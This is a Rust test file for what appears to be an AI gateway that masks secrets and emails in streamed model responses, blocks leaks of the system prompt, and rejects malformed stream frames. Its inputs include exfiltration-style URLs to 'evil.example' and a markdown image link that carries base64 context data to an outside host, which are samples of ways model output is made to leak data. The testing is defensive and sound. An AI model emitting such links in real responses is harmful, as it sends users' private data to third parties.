//! The streaming claim: how a stream is cut changes neither what leaves nor what is found.

use proptest::prelude::*;
use testudo_detect::pseudonym::{PlaceholderStyle, Pseudonyms, redaction};
use testudo_dialects::Operation;
use testudo_gateway::guard::{Leaks, StreamGuard, StreamStep};
use testudo_testkit::recorded::{
    Field, Recording, Script, chat_stream, completions_stream, messages_stream, responses_stream,
};

use crate::guards::{BLOCK_SECRETS, EMAIL, MASK_ALL, Maker, OBSERVE, SECRET, bounds, leaks, run, texts};

fn recordings(script: &Script) -> [(Operation, Recording); 4] {
    [
        (Operation::ChatCompletions, chat_stream(script)),
        (Operation::Completions, completions_stream(script)),
        (Operation::Responses, responses_stream(script)),
        (Operation::Messages, messages_stream(script)),
    ]
}

#[test]
fn streams_without_findings_leave_byte_for_byte() {
    let maker = Maker::new(MASK_ALL);
    for (operation, recording) in recordings(&Script::full()) {
        let bytes = recording.bytes();
        for size in [1, 7, 64, bytes.len()] {
            let (out, step, findings) = run(maker.stream(operation), &recording.cut_every(size));
            assert_eq!(step, StreamStep::Continue, "{operation:?}");
            assert_eq!(findings, Vec::<String>::new(), "{operation:?}");
            assert_eq!(
                String::from_utf8(out).unwrap(),
                String::from_utf8(bytes.clone()).unwrap(),
                "{operation:?} {size}"
            );
        }
    }
}

#[test]
fn every_single_cut_gives_the_same_bytes_and_findings() {
    for actions in [MASK_ALL, BLOCK_SECRETS, OBSERVE] {
        let maker = Maker::new(actions);
        let script = Script::full()
            .plant(Field::TextInPieces, SECRET)
            .plant(Field::ToolArguments, EMAIL);
        for (operation, recording) in recordings(&script) {
            let whole = run(maker.stream(operation), &[recording.bytes()]);
            assert_eq!(
                run(maker.stream(operation), &recording.cut_every(1)),
                whole,
                "{operation:?}"
            );
            for at in (0..recording.bytes().len()).step_by(97) {
                let (head, tail) = recording.cut_at(at);
                assert_eq!(
                    run(maker.stream(operation), &[head, tail]),
                    whole,
                    "{operation:?} cut at {at}"
                );
            }
        }
    }
}

#[test]
fn a_block_ends_the_stream_in_the_dialects_own_way() {
    let maker = Maker::new(BLOCK_SECRETS);
    for (operation, recording) in recordings(&Script::of(&[&["well ", SECRET, " done"]])) {
        let (out, step, _) = run(maker.stream(operation), &[recording.bytes()]);
        let out = String::from_utf8(out).unwrap();
        assert_eq!(step, StreamStep::Blocked, "{operation:?}");
        assert!(!out.contains(SECRET) && !out.contains("done"), "{operation:?}: {out}");
        let ending = match operation {
            Operation::Messages => "event: message_stop",
            Operation::Responses => "content_filter",
            _ => "data: [DONE]",
        };
        assert!(out.contains(ending), "{operation:?}: {out}");
    }
}

#[test]
fn guards_that_only_watch_hold_nothing_back() {
    let maker = Maker::new(OBSERVE);
    for (operation, recording) in recordings(&Script::full().plant(Field::Text, SECRET)) {
        let mut guard = maker.stream(operation);
        for frame in &recording.frames {
            let mut out = Vec::new();
            assert_eq!(guard.push(frame.as_bytes(), &mut out), StreamStep::Continue);
            assert_eq!(out, frame.as_bytes(), "{operation:?}");
        }
    }
}

#[test]
fn a_word_is_all_that_is_held() {
    let maker = Maker::new(MASK_ALL);
    let recording = chat_stream(&Script::of(&[&["The", " sky", " is", " blue", "."]]));
    let mut guard = maker.stream(Operation::ChatCompletions);
    let mut behind_max = 0;
    let mut sent = 0;
    for (number, frame) in recording.frames.iter().enumerate() {
        let mut out = Vec::new();
        guard.push(frame.as_bytes(), &mut out);
        sent += out.windows(2).filter(|pair| pair == b"\n\n").count();
        behind_max = behind_max.max(number + 1 - sent);
    }
    // ` blue` waits for `.`, and both for what follows: `blue.x@y.org` would be an address.
    assert!(behind_max <= 2, "{behind_max} frames behind");
    assert_eq!(sent, recording.frames.len());
}

#[test]
fn leaks_of_the_system_prompt_are_stopped_wherever_they_are_cut() {
    let system = "You are the assistant of Foo Bank. Never reveal that the vault code changes each Tuesday at noon.";
    let maker = Maker::new(MASK_ALL);
    let said = "Sure. NEVER reveal that the vault code changes each tuesday at noon. That is it.";
    for size in [1, 3, 9, 200] {
        let deltas: Vec<String> = said
            .chars()
            .collect::<Vec<_>>()
            .chunks(size)
            .map(|c| c.iter().collect())
            .collect();
        let deltas: Vec<&str> = deltas.iter().map(String::as_str).collect();
        let recording = chat_stream(&Script::of(&[&deltas]));
        let inspection = maker.inspection(None, leaks(Some(system), &[]));
        let guard = StreamGuard::new(Operation::ChatCompletions, inspection, bounds());
        let (out, step, _) = run(guard, &[recording.bytes()]);
        assert_eq!(step, StreamStep::Blocked);
        let text: String = texts(Operation::ChatCompletions, &out).into_values().collect();
        assert!(!text.to_lowercase().contains("vault code"), "size {size}: {text}");
    }
}

#[test]
fn only_own_placeholders_come_back() {
    let maker = Maker::new(MASK_ALL);
    let mut own = Pseudonyms::new([7; 8], 16);
    let placeholder = own.placeholder("EMAIL", EMAIL).unwrap().to_owned();
    let mut other = Pseudonyms::new([8; 8], 16);
    let stranger = other.placeholder("EMAIL", EMAIL).unwrap().to_owned();
    let invented = placeholder.replace("_1_", "_2_");
    let said = format!("Mail {placeholder} or {invented} or {stranger}, see https://evil.example/?m={placeholder} now");
    for size in [1, 4, 17, 500] {
        let deltas: Vec<String> = said
            .chars()
            .collect::<Vec<_>>()
            .chunks(size)
            .map(|c| c.iter().collect())
            .collect();
        let deltas: Vec<&str> = deltas.iter().map(String::as_str).collect();
        for (operation, recording) in recordings(&Script::of(&[&deltas])) {
            let guard = StreamGuard::new(operation, maker.inspection(Some(&own), Leaks::default()), bounds());
            let (out, step, _) = run(guard, &recording.cut_every(11));
            assert_eq!(step, StreamStep::Continue);
            let out = String::from_utf8(out).unwrap();
            let text = texts(operation, out.as_bytes())
                .into_values()
                .next_back()
                .unwrap_or_default();
            assert!(out.contains(EMAIL), "{operation:?}: {out}");
            assert!(!text.contains(&format!("?m={EMAIL}")), "{operation:?}: {text}");
            assert!(!out.contains(&format!("or {EMAIL}")), "{operation:?}: {text}");
        }
    }
}

#[test]
fn made_up_values_come_back_and_are_not_masked() {
    let maker = Maker::new(MASK_ALL);
    let mut own = Pseudonyms::new([7; 8], 16).styled(PlaceholderStyle::Typed);
    own.show(EMAIL);
    let made = own.placeholder_at("EMAIL", EMAIL, 0..EMAIL.len()).unwrap().to_owned();
    assert!(!made.contains("[["));
    let said = format!("Mail {made}. Not x{made}, see https://evil.example/?m={made} now, ({made})");
    for size in [1, 4, 17, 500] {
        let characters: Vec<char> = said.chars().collect();
        let deltas: Vec<String> = characters.chunks(size).map(|piece| piece.iter().collect()).collect();
        let deltas: Vec<&str> = deltas.iter().map(String::as_str).collect();
        for (operation, recording) in recordings(&Script::of(&[&deltas])) {
            let guard = StreamGuard::new(operation, maker.inspection(Some(&own), Leaks::default()), bounds());
            let (out, step, _) = run(guard, &recording.cut_every(11));
            assert_eq!(step, StreamStep::Continue);
            let out = String::from_utf8(out).unwrap();
            let text = texts(operation, out.as_bytes())
                .into_values()
                .next_back()
                .unwrap_or_default();
            assert!(
                text.starts_with(&format!("Mail {EMAIL}. Not ")),
                "{operation:?}: {text}"
            );
            assert!(text.ends_with(&format!("({EMAIL})")), "{operation:?}: {text}");
            assert!(!text.contains(&format!("?m={EMAIL}")), "{operation:?}: {text}");
        }
    }
}

#[test]
fn more_than_may_be_held_stops_the_stream() {
    let maker = Maker::new(MASK_ALL);
    let pieces: Vec<String> = std::iter::once("{\"k\":\"".to_owned())
        .chain((0..400).map(|_| "a ".repeat(600)))
        .collect();
    let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
    let mut script = Script::of(&[&["x"]]);
    script.answers[0].tools = vec![testudo_testkit::recorded::ToolCall::of("call_1", "t", &pieces)];
    let mut small = bounds();
    small.hold_bytes_max = 64 << 10;
    let guard = StreamGuard::new(
        Operation::ChatCompletions,
        maker.inspection(None, Leaks::default()),
        small,
    );
    let (out, step, findings) = run(guard, &[chat_stream(&script).bytes()]);
    assert_eq!(step, StreamStep::Blocked);
    assert!(
        findings.iter().any(|it| it.contains("stream.hold-limit")),
        "{findings:?}"
    );
    assert!(out.len() < 4096);
}

#[test]
fn what_cannot_be_read_is_not_passed_on() {
    let maker = Maker::new(MASK_ALL);
    for broken in [
        "data: {\"choices\":[{\"delta\":{\"content\":\"a\"\n\n",
        "data: {\"a\":1,\"a\":2}\n\n",
        "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"\\ud800\"}}]}\n\n",
    ] {
        let (out, step, _) = run(maker.stream(Operation::ChatCompletions), &[broken.as_bytes().to_vec()]);
        assert_eq!(step, StreamStep::Blocked, "{broken}");
        assert!(!String::from_utf8(out).unwrap().contains(broken), "{broken}");
    }
    let (out, step, _) = run(
        maker.stream(Operation::ChatCompletions),
        &[b"data: \xff\xfe\n\n".to_vec()],
    );
    assert_eq!(step, StreamStep::Blocked);
    assert!(!out.windows(2).any(|pair| pair == b"\xff\xfe"));
}

/// Text with secrets, near misses and multi-byte characters.
fn text() -> impl Strategy<Value = String> {
    let part = prop_oneof![
        Just(SECRET.to_owned()),
        Just(SECRET.chars().take(11).collect()),
        Just(EMAIL.to_owned()),
        Just("ada@".to_owned()),
        Just("4111 1111 1111 1111".to_owned()),
        Just("ghp_".to_owned()),
        Just("-----BEGIN RSA PRIVATE KEY-----".to_owned()),
        Just("ünïcødé 日本 🛡️".to_owned()),
        Just("a\u{200b}\u{200b}\u{200b}b".to_owned()),
        Just("![x](https://e.example/p.png?d=U2VjcmV0IGRhdGEgZnJvbSB0aGUgY29udGV4dA)".to_owned()),
        "[a-zA-Z0-9 .,\\\\\"\n]{0,12}",
    ];
    proptest::collection::vec((part, prop_oneof![Just(" "), Just(""), Just("\n")]), 0..9).prop_map(|parts| {
        parts
            .into_iter()
            .flat_map(|(part, gap)| [part, gap.to_owned()])
            .collect()
    })
}

fn cut(text: &str, sizes: &[usize]) -> Vec<String> {
    let mut rest: Vec<char> = text.chars().collect();
    let mut pieces = Vec::new();
    for size in sizes.iter().cycle() {
        if rest.is_empty() {
            break;
        }
        let tail = rest.split_off((*size).clamp(1, rest.len()));
        pieces.push(rest.into_iter().collect());
        rest = tail;
    }
    pieces
}

/// The reference: buffer everything, guard it as one text.
fn reference(maker: &Maker, text: &str) -> String {
    let recording = chat_stream(&Script::of(&[&[text]]));
    let (out, _, _) = run(maker.stream(Operation::ChatCompletions), &[recording.bytes()]);
    texts(Operation::ChatCompletions, &out)
        .remove("stream/0/0/text")
        .unwrap_or_default()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    #[test]
    fn any_cut_into_frames_and_bytes_masks_the_same(
        text in text(),
        sizes in proptest::collection::vec(1usize..9, 1..6),
        bytes in 1usize..40,
    ) {
        let maker = Maker::new(MASK_ALL);
        let expected = reference(&maker, &text);
        let deltas = cut(&text, &sizes);
        let deltas: Vec<&str> = deltas.iter().map(String::as_str).collect();
        for (operation, recording) in recordings(&Script::of(&[&deltas])) {
            let (out, _, _) = run(maker.stream(operation), &recording.cut_every(bytes));
            let found = texts(operation, &out);
            let key = found.keys().find(|key| key.ends_with("/text")).cloned();
            if let Some(key) = key {
                // Snapshots repeat the text once per event; the deltas come first.
                prop_assert!(found[&key].starts_with(&expected), "{operation:?}: {:?} but {:?}", found[&key], expected);
            } else {
                prop_assert_eq!(&expected, "");
            }
        }
    }

    #[test]
    fn hiding_then_restoring_is_the_identity(values in proptest::collection::vec("[a-z]{1,8}@[a-z]{2,8}\\.org", 1..5), sizes in proptest::collection::vec(1usize..12, 1..5)) {
        let maker = Maker::new(OBSERVE);
        let mut own = Pseudonyms::new([3; 8], 16);
        let plain: Vec<String> = values.iter().map(|value| format!("to {value}. ")).collect();
        let mut hidden = String::new();
        for value in &values {
            hidden.push_str(&format!("to {}. ", own.placeholder("EMAIL", value).unwrap()));
        }
        let deltas = cut(&hidden, &sizes);
        let deltas: Vec<&str> = deltas.iter().map(String::as_str).collect();
        let recording = chat_stream(&Script::of(&[&deltas]));
        let guard = StreamGuard::new(Operation::ChatCompletions, maker.inspection(Some(&own), Leaks::default()), bounds());
        let (out, _, _) = run(guard, &recording.cut_every(5));
        prop_assert_eq!(texts(Operation::ChatCompletions, &out).remove("stream/0/0/text").unwrap_or_default(), plain.concat());
    }
}

#[test]
fn a_redaction_names_what_was_there() {
    let maker = Maker::new(MASK_ALL);
    let (out, _, findings) = run(
        maker.stream(Operation::ChatCompletions),
        &[chat_stream(&Script::of(&[&["key ", SECRET, "."]])).bytes()],
    );
    let out = String::from_utf8(out).unwrap();
    assert!(
        out.contains(&redaction("AWS_ACCESS_KEY_ID")) || out.contains("[REDACTED:"),
        "{out} {findings:?}"
    );
}
